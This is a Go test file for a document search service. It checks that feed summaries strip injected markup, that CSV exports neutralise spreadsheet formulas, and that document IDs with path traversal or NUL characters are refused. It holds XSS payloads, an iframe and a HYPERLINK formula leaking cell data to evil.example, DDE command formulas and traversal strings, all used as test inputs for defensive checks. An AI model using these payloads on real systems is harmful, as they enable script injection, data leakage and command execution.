package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"mime/multipart"
	"net/url"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"github.com/fundus-kb/fundus/indexer"
	"github.com/fundus-kb/fundus/search"
	"github.com/fundus-kb/fundus/web"
)

// ingestJSON writes documents into kb through the JSON parser, failing the
// test when one is refused.
func ingestJSON(t testing.TB, kb *indexer.KB, docs ...map[string]any) {
	t.Helper()
	var lines []string
	for _, d := range docs {
		b, err := json.Marshal(d)
		if err != nil {
			t.Fatal(err)
		}
		lines = append(lines, string(b))
	}
	res, err := kb.IngestBytes(context.Background(), "hostile.jsonl", []byte(strings.Join(lines, "\n")), "")
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range res {
		if r.Status != search.Added {
			t.Fatalf("%s: %s %s", r.ID, r.Status, r.Error)
		}
	}
}

// TestFeedKeepsDocumentMarkupOut reads a feed of documents full of markup
// as a feed reader would: the Atom XML first, then each summary by its
// type. A text summary is shown as text; an HTML one may hold nothing but
// <mark> from Fundus, and the document's markup must arrive as text.
func TestFeedKeepsDocumentMarkupOut(t *testing.T) {
	h, kb := newServer(t, web.Config{})
	bodies := map[string]string{
		"hostile/script":  `Feedprobe <script>alert(1)</script> nach dem Skript.`,
		"hostile/img":     `Feedprobe <img src=x onerror=alert(2)> und <a href="javascript:alert(3)">Link</a>.`,
		"hostile/escaped": `Feedprobe &lt;script&gt;alert(4)&lt;/script&gt; als Text.`,
		"hostile/cdata":   `Feedprobe <![CDATA[<b onmouseover=alert(5)>fett</b>]]> ]]> </summary><summary type="html"><iframe src=//evil.example>`,
		"hostile/attr":    `Ein Bild <img alt="Feedprobe" onerror="alert(6)"> mit Feedprobe im Attribut.`,
		"hostile/mark":    `Feedprobe <mark onclick=alert(7)>falsch</mark> und </mark><mark><mark>.`,
	}
	var docs []map[string]any
	for id, body := range bodies {
		docs = append(docs, map[string]any{"id": id, "title": "Probe <b>" + id + "</b>", "body": body, "date": "2024-05-01"})
	}
	ingestJSON(t, kb, docs...)

	r := do(t, h, "GET", "/feeds/search.atom?q=Feedprobe", nil, nil)
	if r.Code != 200 {
		t.Fatalf("feed: status %d, want 200", r.Code)
	}
	var feed struct {
		Entries []struct {
			ID      string `xml:"id"`
			Title   string `xml:"title"`
			Summary *struct {
				Type string `xml:"type,attr"`
				Text string `xml:",chardata"`
			} `xml:"summary"`
			Content *struct {
				Type string `xml:"type,attr"`
				Text string `xml:",chardata"`
			} `xml:"content"`
		} `xml:"entry"`
	}
	if err := xml.Unmarshal(r.Body.Bytes(), &feed); err != nil {
		t.Fatalf("the feed is not XML: %v", err)
	}
	if len(feed.Entries) != len(bodies) {
		t.Fatalf("got %d entries, want %d", len(feed.Entries), len(bodies))
	}
	for _, e := range feed.Entries {
		t.Run(e.Title, func(t *testing.T) {
			if e.Summary == nil {
				t.Fatal("no summary")
			}
			for _, part := range []*struct {
				Type string `xml:"type,attr"`
				Text string `xml:",chardata"`
			}{e.Summary, e.Content} {
				if part == nil {
					continue
				}
				switch part.Type {
				case "", "text":
					// Shown as text by every reader.
				case "html":
					doc, err := goquery.NewDocumentFromReader(strings.NewReader(part.Text))
					if err != nil {
						t.Fatal(err)
					}
					doc.Find("body *").Each(func(_ int, s *goquery.Selection) {
						if n := s.Get(0); n.Data != "mark" || len(n.Attr) > 0 {
							html, _ := goquery.OuterHtml(s)
							t.Errorf("element from the document in the summary: %s (summary %q)", html, part.Text)
						}
					})
					if doc.Find("mark").Length() == 0 {
						t.Errorf("summary %q marks no match", part.Text)
					}
					if text := doc.Find("body").Text(); !strings.Contains(text, "Feedprobe") {
						t.Errorf("summary text %q lacks the document's words", text)
					}
				default:
					t.Errorf("summary of type %q", part.Type)
				}
			}
		})
	}
	// The document's markup arrives as text a reader shows.
	for _, e := range feed.Entries {
		if strings.Contains(e.Title, "hostile/script") {
			doc, _ := goquery.NewDocumentFromReader(strings.NewReader(e.Summary.Text))
			if got := doc.Find("body").Text(); !strings.Contains(got, "<script>alert(1)</script>") {
				t.Errorf("summary reads %q, want the script tag as text", got)
			}
		}
	}
}

// spreadsheetCells splits CSV text as a spreadsheet program does with the
// separator sep: quoted fields stay whole, anything else is split at sep.
func spreadsheetCells(data string, sep rune) [][]string {
	var rows [][]string
	var row []string
	var cell strings.Builder
	quoted, inQuotes := false, false
	end := func() {
		row = append(row, cell.String())
		cell.Reset()
		quoted = false
	}
	rs := []rune(data)
	for i := 0; i < len(rs); i++ {
		c := rs[i]
		switch {
		case inQuotes && c == '"' && i+1 < len(rs) && rs[i+1] == '"':
			cell.WriteRune('"')
			i++
		case inQuotes && c == '"':
			inQuotes = false
		case inQuotes:
			cell.WriteRune(c)
		case c == '"' && cell.Len() == 0 && !quoted:
			inQuotes, quoted = true, true
		case c == sep:
			end()
		case c == '\n' || c == '\r':
			end()
			rows = append(rows, row)
			row = nil
		default:
			cell.WriteRune(c)
		}
	}
	if cell.Len() > 0 || len(row) > 0 {
		end()
		rows = append(rows, row)
	}
	return rows
}

// TestCSVExportNeutralisesFormulas exports documents whose fields are
// formulas and checks every cell as a spreadsheet reads it, with comma,
// semicolon (German Excel) and tab separators: no cell may start with a
// character that makes it a formula.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	h, kb := newServer(t, web.Config{})
	payloads := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"Details")`,
		`=cmd|'/C calc'!A0`,
		`+1+cmd|'/C calc'!A0`,
		`-2+3`,
		`@SUM(1+1)*cmd|'/C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
	}
	var docs []map[string]any
	for i, p := range payloads {
		docs = append(docs, map[string]any{
			"id":            "formel/" + string(rune('a'+i)),
			"title":         p,
			"summary":       p,
			"body":          "Formelprobe " + p,
			"topics":        []string{p, "Kultur;" + p},
			"organizations": []string{p},
			"people":        []string{"Anna," + p},
			"source":        p,
		})
	}
	docs = append(docs, map[string]any{"id": "=2+3", "title": "Formelprobe im Titel;=1+1", "body": "Formelprobe", "policy_area": "-5"})
	ingestJSON(t, kb, docs...)

	r := do(t, h, "GET", "/api/search?format=csv&q=Formelprobe", nil, nil)
	if r.Code != 200 {
		t.Fatalf("export: status %d, want 200", r.Code)
	}
	body := strings.TrimPrefix(r.Body.String(), "\ufeff")
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v", err)
	}
	if got, want := len(rows), len(docs)+1; got != want {
		t.Fatalf("got %d rows, want %d", got, want)
	}
	for _, sep := range []rune{',', ';', '\t'} {
		t.Run(sepName(sep), func(t *testing.T) {
			for _, row := range spreadsheetCells(body, sep) {
				for _, cell := range row {
					cell = strings.TrimLeft(cell, " ")
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("cell %q is read as a formula", cell)
					}
				}
			}
		})
	}
	// The neutralised cells still say what the document says.
	for _, row := range rows[1:] {
		if row[0] == "=2+3" || row[0] == "'=2+3" {
			if row[0] != "'=2+3" || row[9] != "'-5" || !strings.HasSuffix(row[13], "/documents/=2+3") {
				t.Errorf("row %q: want id '=2+3, policy area '-5 and a URL ending /documents/=2+3", row)
			}
			continue
		}
		if !strings.HasPrefix(row[2], "'") || !strings.HasPrefix(row[10], "'") {
			t.Errorf("title %q, summary %q: want a leading apostrophe", row[2], row[10])
		}
	}
}

func sepName(r rune) string {
	switch r {
	case '\t':
		return "tab"
	case ';':
		return "semicolon"
	}
	return "comma"
}

// TestWritesRefuseBadIDs: ids with dot or empty segments, control
// characters or over 512 bytes are refused with an error naming the id:
// 400 for an id in the path, a failed document (422 when all fail) for an
// id in the body, and the rest of a batch is still written.
func TestWritesRefuseBadIDs(t *testing.T) {
	h, _ := newServer(t, web.Config{})
	jsonHeader := map[string]string{"Content-Type": "application/json"}
	cases := []struct {
		name, method, target, body string
		status                     int
		code, says                 string
	}{
		{"PUT with .. in the path", "PUT", "/api/documents/a%2F..%2Fsecret%2Falpha", `{"title":"x","body":"y"}`, 400, "invalid_parameter", `"a/../secret/alpha" holds a ".." path segment`},
		{"PUT with an escaped dot segment", "PUT", "/api/documents/a/%2E/b", `{"title":"x","body":"y"}`, 400, "invalid_parameter", `"a/./b"`},
		{"PUT with a NUL", "PUT", "/api/documents/nul%00id", `{"title":"x","body":"y"}`, 400, "invalid_parameter", `"nul\x00id"`},
		{"POST with .. in the body", "POST", "/api/documents", `{"id":"a/../secret/alpha","title":"x","body":"y"}`, 400, "invalid_parameter", `"a/../secret/alpha" holds a ".." path segment`},
		{"POST with // in the body", "POST", "/api/documents", `{"id":"a//b","title":"x","body":"y"}`, 400, "invalid_parameter", `"a//b"`},
		{"POST with a leading slash", "POST", "/api/documents", `{"id":"/a","title":"x","body":"y"}`, 400, "invalid_parameter", `"/a"`},
		{"POST with a trailing slash", "POST", "/api/documents", `{"id":"a/","title":"x","body":"y"}`, 400, "invalid_parameter", `"a/"`},
		{"POST with a NUL", "POST", "/api/documents", `{"id":"nul\u0000id","title":"x","body":"y"}`, 400, "invalid_parameter", `"nul\x00id" holds the control character U+0000`},
		{"upload with .. in the front matter", "POST", "/api/ingest", "---\nid: a/../secret/alpha\ntitle: x\n---\ny\n", 400, "invalid_parameter", `"a/../secret/alpha" holds a ".." path segment`},
		{"POST with a long id", "POST", "/api/documents", `{"id":"` + strings.Repeat("x", 600) + `","title":"x","body":"y"}`, 400, "invalid_parameter", "(600 bytes) is longer than 512 bytes"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			headers := jsonHeader
			if tc.target == "/api/ingest" {
				var buf bytes.Buffer
				mw := multipart.NewWriter(&buf)
				fw, _ := mw.CreateFormFile("file", "note.md")
				fw.Write([]byte(tc.body))
				mw.Close()
				tc.body, headers = buf.String(), map[string]string{"Content-Type": mw.FormDataContentType()}
			}
			r := do(t, h, tc.method, tc.target, strings.NewReader(tc.body), headers)
			code, msg, field := errorOf(r)
			if r.Code != tc.status || code != tc.code || field != "id" || !strings.Contains(msg, tc.says) {
				t.Errorf("got %d %s %q (field %q), want %d %s naming %s", r.Code, code, msg, field, tc.status, tc.code, tc.says)
			}
		})
	}
	// NUL is not dropped: nothing was written as "nulid".
	if r := do(t, h, "GET", "/api/documents/nulid", nil, nil); r.Code != 404 {
		t.Errorf("GET nulid: got %d, want 404", r.Code)
	}
	// One bad id fails alone.
	r := do(t, h, "POST", "/api/documents", strings.NewReader(`[{"id":"gut/eins","title":"x","body":"y"},{"id":"gut/../zwei","title":"x","body":"y"}]`), jsonHeader)
	if r.Code != 200 || r.JSON["added"] != 1.0 || r.JSON["failed"] != 1.0 {
		t.Errorf("batch: got %d %v, want 200 with 1 added, 1 failed", r.Code, r.JSON)
	}
}

// TestStoredBadIDsStayReachable: documents stored before such ids were
// refused stay readable, linked to themselves (not to the path a browser
// would make of the id) and deletable; writing them again is refused.
func TestStoredBadIDsStayReachable(t *testing.T) {
	h, kb := newServer(t, web.Config{})
	ingestJSON(t, kb, map[string]any{"id": "secret/alpha", "title": "Das Ziel", "body": "Anderes Dokument"})
	for _, id := range []string{"a/../secret/alpha", "b//c", "https://example.org/berichte/"} {
		d := search.Document{ID: id, Title: "Altbestand " + id, Body: "Altbestandprobe", Language: "de", Type: "other"}
		if _, err := kb.Put(context.Background(), []indexer.Item{{Doc: d}}); err != nil {
			t.Fatal(err)
		}
	}
	r := do(t, h, "GET", "/api/search?q=Altbestandprobe", nil, nil)
	hits, _ := r.JSON["hits"].([]any)
	if len(hits) != 3 {
		t.Fatalf("got %d hits, want 3", len(hits))
	}
	for _, hit := range hits {
		hit := hit.(map[string]any)
		id, link := hit["id"].(string), hit["url"].(string)
		t.Run(id, func(t *testing.T) {
			// A browser resolves dot segments before it asks.
			resolved := mustURL(t, url.Parse, "http://example.com/search").ResolveReference(mustURL(t, url.Parse, link))
			page := do(t, h, "GET", resolved.RequestURI(), nil, nil)
			if page.Code != 200 {
				t.Fatalf("the link %s (%s) answers %d, want 200", link, resolved.RequestURI(), page.Code)
			}
			doc, err := goquery.NewDocumentFromReader(page.Body)
			if err != nil {
				t.Fatal(err)
			}
			if got := doc.Find("h1").First().Text(); !strings.Contains(got, "Altbestand "+id) {
				t.Errorf("the link %s shows %q, want the document %s", link, got, id)
			}
			api := "/api/documents/" + url.PathEscape(id)
			if r := do(t, h, "GET", api, nil, nil); r.Code != 200 || r.JSON["id"] != id {
				t.Errorf("GET %s: %d %v", api, r.Code, r.JSON["id"])
			}
			want := 400 // a web page's URL is a valid id; the others are not
			if strings.HasPrefix(id, "https://") {
				want = 200
			}
			if r := do(t, h, "PUT", api, strings.NewReader(`{"title":"neu","body":"neu"}`), map[string]string{"Content-Type": "application/json"}); r.Code != want {
				t.Errorf("PUT %s: got %d, want %d", api, r.Code, want)
			}
			if r := do(t, h, "DELETE", api, nil, nil); r.Code != 200 {
				t.Errorf("DELETE %s: got %d, want 200", api, r.Code)
			}
		})
	}
}
